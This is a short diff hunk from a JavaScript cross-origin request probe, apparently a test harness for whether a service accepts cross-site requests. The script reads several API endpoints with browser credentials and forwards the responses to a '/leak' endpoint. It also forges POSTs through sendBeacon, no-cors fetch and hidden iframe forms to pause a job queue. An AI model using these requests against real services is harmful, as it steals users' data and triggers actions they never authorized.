@@ -32,7 +32,8 @@ for (const type of types) {
 for (const path of ["/v1/jobs", "/v1/outputs", "/v1/settings", "/metrics"])
   attempt("read " + path, fetch(target + path, {credentials: "include"})
     .then(answer => answer.text()).then(text => fetch("/leak?" + encodeURIComponent(text.slice(0, 200)))));
-attempt("beacon", navigator.sendBeacon(target + "/v1/queue/pause", "x"));
+attempt("beacon", navigator.sendBeacon(target + "/v1/queue/pause"));
+attempt("no body", fetch(target + "/v1/queue/pause", {method: "POST", mode: "no-cors", credentials: "include"}));
 for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
   const frame = document.createElement("iframe"); frame.name = "f" + type; document.body.append(frame);
   const form = document.createElement("form"); form.action = target + "/v1/jobs"; form.method = "POST";
